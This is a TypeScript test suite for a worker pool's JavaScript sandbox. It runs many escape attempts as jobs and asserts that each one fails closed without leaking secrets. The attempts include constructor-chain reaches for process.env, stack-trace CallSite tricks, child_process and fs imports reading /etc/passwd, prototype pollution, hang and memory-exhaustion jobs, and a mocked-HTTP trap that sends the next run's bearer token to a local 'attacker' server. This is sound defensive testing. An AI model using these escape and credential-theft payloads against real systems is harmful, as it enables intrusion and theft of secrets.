// Sandbox escape attempts, each run as a real job (real compiler, real runtime, real
// @openfn/language-common) through the real pool. Every attempt must fail closed: the run ends
// with the expected reason and error type, and no secret (the worker's environment, a file
// outside the sandbox, /etc/passwd, another run's credential) appears in any event.
//
// Not covered on purpose: network access. Node 20's permission model does not restrict sockets,
// and adaptors need them; a job can reach any host the worker can.

import { randomUUID } from 'node:crypto';
import { rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { ErrorType, ExitReason, PlanOptions, RunResult, State } from '@lightning/runtime';
import {
  ADAPTORS_DIR,
  expectWellFormed,
  jobPlan,
  preparePoolTests,
  recordEvents,
} from '../test-support/pool-fixtures.js';
import { createPool, type Pool, type PoolRunOptions } from './index.js';

const envSecret = `env-secret-${randomUUID()}`;
const fileSecret = `file-secret-${randomUUID()}`;
const credentialSecret = `credential-secret-${randomUUID()}`;
const secretFile = path.join(tmpdir(), `lightning-escape-${randomUUID()}.txt`);
const secretFileLiteral = JSON.stringify(secretFile);

let pool: Pool;

beforeAll(async () => {
  await preparePoolTests();
  // The worker process holds these; its children must never see them.
  process.env.LIGHTNING_ESCAPE_TEST_SECRET = envSecret;
  writeFileSync(secretFile, fileSecret);
  // One child, so "the next run" runs in the same child unless the pool retired it.
  pool = createPool({ size: 1, adaptorsDir: ADAPTORS_DIR });
  await pool.ready;
  // The first run of a test session builds three packages and may install two adaptors.
});

afterAll(async () => {
  await pool?.close();
  rmSync(secretFile, { force: true });
  delete process.env.LIGHTNING_ESCAPE_TEST_SECRET;
});

interface Attempt {
  body: string;
  reason: ExitReason;
  errorType: ErrorType | null;
  options?: PlanOptions;
}

/**
 * Run `body` as a job; check the stream and that no secret leaked into it. Runs are of one
 * project unless `projectId` says otherwise, so that they may share a child: what one leaves
 * behind, the next of the same project would meet.
 */
async function attempt(
  body: string,
  options: PlanOptions = {},
  runOptions: PoolRunOptions & { credentialId?: string; projectId?: string; input?: State } = {},
): Promise<RunResult> {
  const recorder = recordEvents();
  const result = await pool.run(
    {
      ...jobPlan(
        body,
        { run_timeout_ms: 300_000, ...options },
        runOptions.credentialId ? { credential_id: runOptions.credentialId } : {},
      ),
      project_id: runOptions.projectId ?? 'project-escape',
    },
    runOptions.input ?? { data: {} },
    { ...runOptions, onEvent: recorder.onEvent },
  );
  expectWellFormed(recorder.events);
  const text = recorder.text() + JSON.stringify(result);
  expect(text).not.toContain(envSecret);
  expect(text).not.toContain(fileSecret);
  expect(text).not.toMatch(/root:x:0:0/);
  return result;
}

const processThief = "('return process')().env.LIGHTNING_ESCAPE_TEST_SECRET";

const attempts: Record<string, Attempt> = {
  'this.constructor.constructor at the top level of the job': {
    body: `const p = this.constructor.constructor('return process')();\nfn(s => ({ data: { env: p.env } }))`,
    reason: 'fail',
    errorType: 'RuntimeError',
  },
  'globalThis.constructor.constructor (the context realm Function)': {
    body: `fn(s => ({ data: { env: globalThis.constructor.constructor${processThief} } }))`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  "an adaptor function's .constructor.constructor (the host realm Function)": {
    body: `fn(s => ({ data: { env: fn.constructor.constructor${processThief} } }))`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  "an adaptor operation's .constructor (host Function, via Reflect.construct)": {
    body: `fn(s => ({ data: { env: Reflect.construct(fn(x => x).constructor, ['return process'])().env } }))`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  'state.constructor.constructor (state built in the host realm)': {
    body: `fn(s => ({ data: { env: s.constructor.constructor${processThief} } }))`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  'Buffer.constructor (a host object handed to the context)': {
    body: `fn(s => ({ data: { env: Buffer.constructor${processThief} } }))`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  'a host promise returned by an adaptor: .constructor.constructor': {
    body: `fn(async s => { const p = fn(x => x)(s); return { data: { env: p.constructor.constructor${processThief} } }; })`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  'Error.prepareStackTrace to collect CallSites and call getFunction/getThis': {
    body: `fn(s => {
      Error.prepareStackTrace = (e, frames) => frames;
      const frames = new Error().stack;
      const found = [];
      for (const frame of frames) {
        const f = frame.getFunction(); const t = frame.getThis();
        if (f) found.push(f.constructor${processThief});
        if (t && t.process) found.push(t.process.env.LIGHTNING_ESCAPE_TEST_SECRET);
      }
      return { data: { found } };
    })`,
    reason: 'success',
    errorType: null,
  },
  'Error.captureStackTrace on an object, CallSite.getThis': {
    body: `fn(s => {
      Error.prepareStackTrace = (e, calls) => calls.map(c => c.getThis());
      const holder = {}; Error.captureStackTrace(holder);
      const found = holder.stack.filter(Boolean).map(t => t.constructor.constructor${processThief});
      return { data: { found } };
    })`,
    reason: 'success',
    errorType: null,
  },
  "dynamic import('fs') to read a file": {
    body: `fn(async s => ({ data: { f: (await import('fs')).readFileSync(${secretFileLiteral}, 'utf8') } }))`,
    reason: 'crash',
    errorType: 'ImportError',
  },
  "dynamic import('child_process') to spawn": {
    body: `fn(async s => ({ data: { f: (await import('child_process')).execSync('cat /etc/passwd').toString() } }))`,
    reason: 'crash',
    errorType: 'ImportError',
  },
  "static import of 'node:fs' to read /etc/passwd": {
    body: `import { readFileSync } from 'node:fs';\nfn(s => ({ data: { f: readFileSync('/etc/passwd', 'utf8') } }))`,
    reason: 'crash',
    errorType: 'ImportError',
  },
  require: {
    body: `fn(s => ({ data: { f: require('fs').readFileSync('/etc/passwd', 'utf8') } }))`,
    reason: 'crash',
    errorType: 'RuntimeCrash',
  },
  'process.binding': {
    body: `fn(s => ({ data: { f: String(process.binding('fs')) } }))`,
    reason: 'crash',
    errorType: 'RuntimeCrash',
  },
  'globalThis.process.env': {
    body: 'fn(s => ({ data: { env: globalThis.process.env.LIGHTNING_ESCAPE_TEST_SECRET } }))',
    reason: 'fail',
    errorType: 'RuntimeError',
  },
  "fetch('file:///etc/passwd')": {
    body: `fn(async s => ({ data: { f: await (await fetch('file:///etc/passwd')).text() } }))`,
    reason: 'crash',
    errorType: 'RuntimeCrash',
  },
  'WebAssembly.compile': {
    body: 'fn(async s => { await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return s; })',
    reason: 'fail',
    errorType: 'JobError',
  },
  eval: {
    body: `fn(s => ({ data: { env: eval("process.env") } }))`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  'new Function': {
    body: `fn(s => ({ data: { env: new Function('return process.env')() } }))`,
    reason: 'kill',
    errorType: 'SecurityError',
  },
  'setTimeout with a string': {
    body: `fn(s => new Promise(resolve => { setTimeout('globalThis.x = process.env', 0); resolve(s); }))`,
    reason: 'fail',
    errorType: 'AdaptorError',
  },
  'import.meta': {
    body: 'fn(s => ({ data: { meta: JSON.stringify(import.meta), env: import.meta.env } }))',
    reason: 'success',
    errorType: null,
  },
  'process.exit()': {
    body: 'fn(s => { process.exit(1); return s; })',
    reason: 'crash',
    errorType: 'RuntimeCrash',
  },
  'Object.prototype of the host through an adaptor function': {
    body: `fn(s => { Object.getPrototypeOf(Object.getPrototypeOf(fn)).polluted = 'yes'; return s; })`,
    reason: 'fail',
    errorType: 'RuntimeError',
  },
  'Function.prototype of the host through an adaptor function': {
    body: `fn(s => { fn.constructor.prototype.call = () => 'hijacked'; return s; })`,
    reason: 'fail',
    // The frozen host Function.prototype throws inside the operation: reported as AdaptorError.
    errorType: 'AdaptorError',
  },
  'Atomics.wait on the main thread (a hang)': {
    body: 'fn(s => { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return s; })',
    options: { run_timeout_ms: 1500 },
    reason: 'kill',
    errorType: 'TimeoutError',
  },
  'an infinite loop in an operation': {
    body: 'fn(s => { for (;;) {} })',
    options: { run_timeout_ms: 1500 },
    reason: 'kill',
    errorType: 'TimeoutError',
  },
  'a microtask loop (never yields to timers, escapes any vm timeout)': {
    body: 'fn(s => { const spin = () => Promise.resolve().then(spin); spin(); return new Promise(() => {}); })',
    options: { run_timeout_ms: 1500 },
    reason: 'kill',
    errorType: 'TimeoutError',
  },
  'while (true) {} at the top level of the job': {
    body: 'while (true) {}\nfn(s => s)',
    options: { run_timeout_ms: 1500 },
    reason: 'kill',
    errorType: 'TimeoutError',
  },
  'a memory hog': {
    body: 'fn(s => { const keep = []; for (;;) keep.push(new Array(1e5).fill(Math.random())); })',
    options: { run_memory_limit_mb: 150, run_timeout_ms: 300_000 },
    reason: 'kill',
    errorType: 'OOMError',
  },
};

describe('a job trying to escape the sandbox', () => {
  it.each(Object.entries(attempts))('%s fails closed', async (_name, a) => {
    const result = await attempt(a.body, a.options);
    expect({ reason: result.reason, error_type: result.error_type }).toEqual({
      reason: a.reason,
      error_type: a.errorType,
    });
    // The pool still serves the next run, in a healthy child.
    const next = await attempt('fn(s => ({ data: { polluted: ({}).polluted ?? null } }))');
    expect(next).toMatchObject({ reason: 'success', final_state: { data: { polluted: null } } });
  });
});

describe('the host realm Error, reached through an error an adaptor throws', () => {
  it('cannot get a prepareStackTrace hook (CallSite.getThis of sloppy host frames)', async () => {
    const result = await attempt(`fn(async s => {
      let hostError;
      try { await fn(null)(s); } catch (e) { hostError = e; }
      const HostError = Object.getPrototypeOf(hostError.constructor);
      let hooked = 'yes';
      try { HostError.prepareStackTrace = (e, frames) => frames.map(f => f.getThis()); } catch (e) { hooked = String(e); }
      let found = null;
      await each('$.data.items[*]', fn(st => {
        const holder = {}; HostError.captureStackTrace(holder);
        if (Array.isArray(holder.stack)) found = holder.stack.filter(t => t && t.process).map(t => t.process.env.LIGHTNING_ESCAPE_TEST_SECRET);
        return st;
      }))({ ...s, data: { items: [1] } });
      return { data: { realm: hostError instanceof Error ? 'job' : 'host', hooked, found } };
    })`);
    expect(result.reason).toBe('success');
    expect(result.final_state).toMatchObject({
      data: { realm: 'host', hooked: expect.stringContaining('read only'), found: null },
    });
  });
});

describe('what one run leaves behind for the next', () => {
  const check = `fn(s => ({ data: {
    object: ({}).polluted ?? null,
    fn: fn.stash ?? fn[Symbol.for('lightning.stash')] ?? null,
    buffer: Buffer.from('x').stash ?? null,
    url: new URL('http://x').stash ?? null,
    global: globalThis.stash ?? globalThis[Symbol.for('lightning.stash')] ?? null,
  } }))`;
  const clean = { object: null, fn: null, buffer: null, url: null, global: null };

  it('host objects handed to the job (Buffer, URL) are not a channel: the child is retired', async () => {
    for (const host of ['Buffer', 'URL']) {
      const first = await attempt(`fn(s => { ${host}.prototype.stash = 'from-run-1'; return s; })`);
      expect(first.reason).toBe('success');
      expect((await attempt(check)).final_state).toEqual({ data: clean });
    }
  });

  it('adaptor exports are frozen, so no value can be left on them', async () => {
    const first = await attempt(`fn(s => { fn.stash = 'x'; return s; })`);
    expect(first).toMatchObject({ reason: 'fail', error_type: 'RuntimeError' });
    const second = await attempt(`fn(s => { fn[Symbol.for('lightning.stash')] = 'x'; return s; })`);
    expect(second).toMatchObject({ reason: 'fail', error_type: 'RuntimeError' });
    expect((await attempt(check)).final_state).toEqual({ data: clean });
  });

  it('globalThis and Symbol.for keys do not survive into the next run', async () => {
    await attempt(`globalThis.stash = 'x';
      globalThis[Symbol.for('lightning.stash')] = 'x';
      fn(s => s)`);
    expect((await attempt(check)).final_state).toEqual({ data: clean });
  });

  it("a run cannot leave a trap that reads the next run's credential", async () => {
    const trap = await attempt(
      `fn(s => {
        const steal = (x) => { try { return x.configuration.password } catch { return null } };
        try { Buffer.prototype.toJSON = function () { return steal(this) } } catch {}
        try { Object.defineProperty(Object.getPrototypeOf(s), 'configuration', { set(v) { globalThis.stolen = v } }) } catch {}
        setInterval(() => console.log('trap still running'), 1);
        return s;
      })`,
    );
    expect(trap.reason).toBe('success');
    const recorder = recordEvents();
    const victim = await pool.run(
      {
        ...jobPlan(
          'fn(s => ({ ...s, data: { ok: true, buf: Buffer.from("a") } }))',
          {},
          { credential_id: 'c' },
        ),
        project_id: 'project-escape',
      },
      { data: {} },
      {
        onEvent: recorder.onEvent,
        loadCredential: async () => ({ password: credentialSecret }) as State,
      },
    );
    expect(victim.reason).toBe('success');
    expect(recorder.text()).not.toContain(credentialSecret);
    expect(recorder.text()).not.toContain('trap still running');
  });

  it('after a memory hog is killed, the next run succeeds', async () => {
    const hog = await attempt(
      'fn(s => { const keep = []; for (;;) keep.push(new Uint8Array(8 * 1024 * 1024).fill(7)); })',
      { run_memory_limit_mb: 150, run_timeout_ms: 300_000 },
    );
    expect(hog).toMatchObject({ reason: 'kill', error_type: 'OOMError' });
    expect((await attempt('fn(s => ({ data: { n: 1 } }))')).final_state).toEqual({
      data: { n: 1 },
    });
  });
});

describe('cross-run effects: what a run of one project leaves behind never reaches a run of another', () => {
  // A real API the innocent run calls with its credential, and the attacker's collector.
  let api: Server;
  let attacker: Server;
  let apiUrl = '';
  let attackerUrl = '';
  const apiSaw: string[] = [];
  const attackerSaw: string[] = [];

  beforeAll(async () => {
    api = createServer((req, res) => {
      apiSaw.push(String(req.headers.authorization));
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ records: [1, 2, 3] }));
    });
    attacker = createServer((req, res) => {
      let body = '';
      req.on('data', (chunk) => {
        body += chunk;
      });
      req.on('end', () => {
        attackerSaw.push(`${req.url} ${JSON.stringify(req.headers)} ${body}`);
        res.end('{}');
      });
    });
    apiUrl = await listen(api);
    attackerUrl = await listen(attacker);
  });

  afterAll(() => {
    api?.closeAllConnections();
    api?.close();
    attacker?.closeAllConnections();
    attacker?.close();
  });

  /** What the innocent run reports about its realm; all null when nothing reached it. */
  const probe = `{
    global: globalThis.stash ?? globalThis[Symbol.for('lightning.stash')] ?? null,
    object: ({}).stash ?? null,
    buffer: Buffer.from('x').stash ?? null,
    url: new URL('http://x').stash ?? null,
    lodash: _.templateSettings.stash ?? null,
  }`;
  const clean = { global: null, object: null, buffer: null, url: null, lodash: null };

  const leftovers: Record<string, string> = {
    'adaptor internals: a mock HTTP client registered in the adaptor (undici MockAgent)': 'MOCK',
    'globalThis additions': `globalThis.stash = 'A';
      globalThis[Symbol.for('lightning.stash')] = 'A';
      fn(s => { globalThis.stash = 'A'; return s; })`,
    'prototype changes of host objects': `fn(s => {
      Buffer.prototype.stash = 'A';
      URL.prototype.stash = 'A';
      try { Object.getPrototypeOf(Object.getPrototypeOf(fn)).stash = 'A'; } catch {}
      return s;
    })`,
    timers: `fn(s => {
      setInterval(() => console.log('A is still here'), 1);
      setTimeout(() => console.log('A is still here'), 50);
      return s;
    })`,
    'unresolved promises and an endless microtask loop': `fn(s => {
      new Promise(() => {});
      globalThis.later = new Promise(resolve => setTimeout(resolve, 60000));
      (async () => { for (;;) await null })();
      return s;
    })`,
    'caches in node_modules dependencies of adaptors (lodash settings)': `fn(s => {
      _.templateSettings.stash = 'A';
      return s;
    })`,
  };

  it.each(Object.entries(leftovers))('%s', async (_name, body) => {
    const projectA = `project-a-${randomUUID()}`;
    const projectB = `project-b-${randomUUID()}`;
    apiSaw.length = 0;
    attackerSaw.length = 0;
    const theft =
      body === 'MOCK'
        ? `fn(s => {
            const mock = util.enableMockClient(${JSON.stringify(apiUrl)});
            mock.intercept({ path: () => true, method: 'GET' }).reply(opts => {
              http.post(${JSON.stringify(`${attackerUrl}/steal`)}, { headers: opts.headers })(s).catch(() => {});
              return {
                statusCode: 200,
                data: JSON.stringify({ records: ['forged'] }),
                responseOptions: { headers: { 'content-type': 'application/json' } },
              };
            }).persist();
            return s;
          })`
        : body;
    const first = await attempt(theft, {}, { projectId: projectA });
    expect(first.reason).toBe('success');

    if (body === 'MOCK') {
      // The trap is real: a later run of project A itself (whose editors wrote it) meets it
      // (its copy to the attacker may be cut short: the child is retired with it in flight).
      const own = await attempt(
        `fn(s => http.get(${JSON.stringify(`${apiUrl}/records`)}, { headers: { Authorization: 'Bearer own' } })(s))`,
        {},
        { projectId: projectA },
      );
      expect(own.final_state, JSON.stringify(own)).toMatchObject({
        data: { records: ['forged'] },
      });
      expect(apiSaw).toEqual([]);
      apiSaw.length = 0;
    }

    const secret = `Bearer ${credentialSecret}`;
    const recorder = recordEvents();
    const innocent = await pool.run(
      {
        ...jobPlan(
          `fn(async s => {
            const answer = await http.get(${JSON.stringify(`${apiUrl}/records`)}, {
              headers: { Authorization: 'Bearer ' + s.configuration.token },
            })(s);
            return { data: { n: s.data.n * 2, records: answer.data.records, probe: ${probe} } };
          })`,
          { run_timeout_ms: 300_000 },
          { credential_id: 'api' },
        ),
        project_id: projectB,
      },
      { data: { n: 21 } },
      {
        onEvent: recorder.onEvent,
        loadCredential: async () => ({ token: credentialSecret }) as State,
      },
    );
    expect(innocent.reason, JSON.stringify(innocent)).toBe('success');
    expect(innocent.final_state).toEqual({
      data: { n: 42, records: [1, 2, 3], probe: clean },
    });
    // The request reached the real API, with its credential, and nobody else saw it.
    expect(apiSaw).toEqual([secret]);
    // (A copy of project A's own request may still arrive late; the victim's never does.)
    expect(attackerSaw.join('\n')).not.toContain(credentialSecret);
    expect(recorder.text()).not.toContain('A is still here');
    expect(recorder.text()).not.toContain(credentialSecret);
  });
});

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
